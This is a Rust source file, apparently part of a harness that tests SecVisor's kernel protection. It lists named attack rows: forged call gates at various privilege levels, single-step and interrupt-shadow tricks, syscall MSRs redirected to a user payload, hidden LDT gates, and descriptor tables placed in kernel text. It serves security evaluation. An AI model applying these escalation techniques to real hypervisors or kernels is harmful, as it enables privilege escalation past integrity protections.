//! Out of the step by which SecVisor lets user mode load a segment: the one time that the kernel's
//! descriptor tables are there in the user view.

use super::boundary::{breakpoint, gate_row};
use super::entry::{aimed_gate, far_gate};
use super::hidden::hidden;
use super::{Act, Attack, Plan};
use crate::cpu;
use crate::memory::{self, PAGE, RW, WINDOW};
use crate::tables::{self, CALL_GATE, CPL1_CS, CPL2_CS, LDT_GATE, move_ldt};
use crate::trap::{Frame, KERNEL_CS, symbol};

/// A row: user mode loads a segment and tries to keep the tables for the call gate that follows.
macro_rules! escape {
    ($name:literal, $start:ident) => {
        Attack { name: $name, plan: |_| forged_gate(symbol!($start)) }
    };
}

fn forged_gate(start: u64) -> Plan {
    far_gate(symbol!(gdt) + CALL_GATE, KERNEL_CS, start)
}

/// Branches alone are stepped.
extern "C" fn step_branches(_: u64) {
    const DEBUGCTL: u32 = 0x1D9;
    cpu::wrmsr(DEBUGCTL, 2);
}

/// User mode loads the LDT's segment that lies `offset` bytes into a page.
fn load_from(page: u64, offset: u64) -> Act {
    move_ldt(page);
    Act::User(Frame { cx: offset | 7, ..Frame::user(symbol!(u_load_fs)) })
}

/// Where a descriptor lies in its page.
fn descriptor() -> u64 {
    symbol!(victim_descriptor)
}

/// The rows.
pub const ROWS: &[Attack] = &[
    Attack {
        name: "step-btf",
        plan: |_| forged_gate(symbol!(u_step_gate)).after(step_branches, 0),
    },
    escape!("step-popf", u_step_popf),
    escape!("step-iret", u_step_iret),
    escape!("shadow-popf", u_shadow_popf),
    escape!("shadow-pushf", u_shadow_pushf),
    escape!("shadow-iret", u_shadow_iret),
    escape!("shadow-call-gate", u_shadow_gate),
    escape!("shadow-chain", u_shadow_chain),
    Attack {
        name: "shadow-call-gate-cpl1",
        plan: |_| far_gate(symbol!(gdt) + CALL_GATE, CPL1_CS, symbol!(u_shadow_gate)),
    },
    Attack {
        name: "shadow-call-gate-cpl2",
        plan: |_| far_gate(symbol!(gdt) + CALL_GATE, CPL2_CS, symbol!(u_shadow_gate)),
    },
    gate_row!("shadow-int", 0x82, u_shadow_int),
    gate_row!("shadow-int3", 3, u_shadow_breakpoint),
    gate_row!("shadow-icebp", 1, u_shadow_icebp),
    gate_row!("shadow-undefined", 6, u_shadow_undefined),
    Attack {
        name: "shadow-syscall",
        plan: |_| {
            let payload = super::entry::user_payload();
            #[cfg(target_arch = "x86_64")]
            cpu::wrmsr(cpu::LSTAR, payload);
            #[cfg(target_arch = "x86")]
            cpu::wrmsr(cpu::STAR, KERNEL_CS << 32 | payload);
            Plan::user(payload, symbol!(u_shadow_syscall))
        },
    },
    gate_row!("step-breakpoint", 1, u_step_break; breakpoint(symbol!(u_step_break_at), 0x401)),
    Attack {
        name: "step-page-fault",
        // The table itself is not there.
        plan: |_| {
            let plan = aimed_gate(14, KERNEL_CS, 0);
            Plan { act: load_from(WINDOW, 0), ..plan }
        },
    },
    Attack {
        name: "step-text-table",
        // A loaded descriptor is marked as accessed, in text.
        plan: |_| {
            let act = load_from(memory::map(0, symbol!(victim), RW), descriptor() % PAGE);
            Plan { act, ..Plan::user(descriptor(), 0) }.at_target()
        },
    },
    Attack {
        name: "load-text-table",
        // The same by the kernel itself.
        plan: |_| {
            move_ldt(memory::map(0, symbol!(victim), RW));
            let selector = descriptor() % PAGE + 4;
            Plan::call(descriptor(), symbol!(load_segment), selector).at_target()
        },
    },
    Attack {
        name: "hidden-ldt",
        plan: |options| {
            let forged = super::entry::user_payload();
            let target = hidden(options, |page| {
                tables::gate(page + LDT_GATE, forged, KERNEL_CS, tables::CALL);
            });
            move_ldt(target);
            Plan::user(target, symbol!(u_ldt_gate))
        },
    },
    #[cfg(target_arch = "x86")]
    gate_row!("pop-ss-int", 0x82, u_pop_int),
    #[cfg(target_arch = "x86")]
    gate_row!("pop-ss-int3", 3, u_pop_breakpoint),
    #[cfg(target_arch = "x86")]
    gate_row!("pop-ss-into", 4, u_pop_overflow),
];
